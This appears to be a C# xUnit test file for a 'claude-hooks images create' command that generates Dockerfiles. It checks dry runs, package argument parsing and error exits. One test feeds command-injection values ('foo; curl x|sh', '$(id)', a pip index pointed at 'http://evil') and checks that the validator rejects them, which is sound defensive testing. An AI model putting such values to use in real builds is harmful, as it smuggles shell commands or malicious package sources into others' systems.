using ClaudeHooks.Cli;

namespace ClaudeHooks.Tests.Cli;

/// <summary><c>claude-hooks images create</c>, run in-process without an engine: the dry run and the refusals before any build.</summary>
[Collection(nameof(ConsoleCollection))]
public sealed class ImagesCreateCommandTests : IDisposable
{
    private readonly TempDirectory _home = new();
    private readonly string? _previousHome = Environment.GetEnvironmentVariable("CLAUDE_HOOKS_HOME");
    private readonly string? _previousDockerHost = Environment.GetEnvironmentVariable("DOCKER_HOST");

    public ImagesCreateCommandTests()
    {
        Environment.SetEnvironmentVariable("CLAUDE_HOOKS_HOME", _home.Path);
        Environment.SetEnvironmentVariable("DOCKER_HOST", $"unix://{_home.Path}/no-engine.sock");
    }

    public void Dispose()
    {
        Environment.SetEnvironmentVariable("CLAUDE_HOOKS_HOME", _previousHome);
        Environment.SetEnvironmentVariable("DOCKER_HOST", _previousDockerHost);
        _home.Dispose();
    }

    [Fact]
    public async Task DryRun_PrintsTheDockerfileWithoutAnEngine()
    {
        var (code, output, error) = await RunAsync("images", "create", "web", "--from", "node", "--apt", "jq", "git-lfs", "--npm", "typescript@5.4.5", "--npm=@types/node", "--dry-run");

        Assert.Equal(ExitCodes.Success, code);
        Assert.Equal("", error);
        Assert.Contains("FROM claude-hooks/agent-node:latest AS packages", output, StringComparison.Ordinal);
        Assert.Contains("'jq' 'git-lfs'", output, StringComparison.Ordinal);
        Assert.Contains("'typescript@5.4.5' '@types/node'", output, StringComparison.Ordinal);
        Assert.EndsWith("USER claude\n", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ScopedNpmPackageAsItsOwnArgument_IsAValueNotAResponseFile()
    {
        var (code, output, error) = await RunAsync("images", "create", "web", "--from", "node", "--npm", "@types/node", "--dry-run");

        Assert.Equal(ExitCodes.Success, code);
        Assert.Equal("", error);
        Assert.Contains("'@types/node'", output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task HostileAndBadValues_ExitTwoNamingEachFlag_AndPrintNoDockerfile()
    {
        var (code, output, error) = await RunAsync(
            "images", "create", "Web", "--from", "base", "--apt", "foo; curl x|sh", "--npm=$(id)", "--pip=--index-url=http://evil", "--dry-run");

        Assert.Equal(ExitCodes.InvalidConfig, code);
        Assert.Equal("", output);
        var lines = error.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(
            ["error: NAME", "error: --apt", "error: --npm", "error: --pip", "error: --npm", "error: --pip"],
            lines.Select(l => string.Join(' ', l.Split(' ').Take(2))));
        Assert.Contains("error: --apt \"foo; curl x|sh\" is not a Debian package name", error, StringComparison.Ordinal);
        Assert.Contains("error: --pip \"--index-url=http://evil\" is not a pip requirement", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task MissingCaBundle_ExitsTwoNamingTheFlag()
    {
        var (code, _, error) = await RunAsync("images", "create", "web", "--from", "base", "--apt", "jq", "--ca-bundle", Path.Combine(_home.Path, "nope.pem"), "--dry-run");

        Assert.Equal(ExitCodes.InvalidConfig, code);
        Assert.Contains($"error: --ca-bundle {_home.Path}/nope.pem: CA bundle not found", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task EngineUnreachable_ExitsThreeBeforeAnyBuild()
    {
        var (code, output, error) = await RunAsync("images", "create", "web", "--from", "base", "--apt", "jq");

        Assert.Equal(ExitCodes.EngineUnavailable, code);
        Assert.DoesNotContain("building", output, StringComparison.Ordinal);
        Assert.Contains("cannot reach the Docker engine", error, StringComparison.Ordinal);
    }

    private static Task<(int Code, string Output, string Error)> RunAsync(params string[] args) => CliTests.RunAsync(args);
}
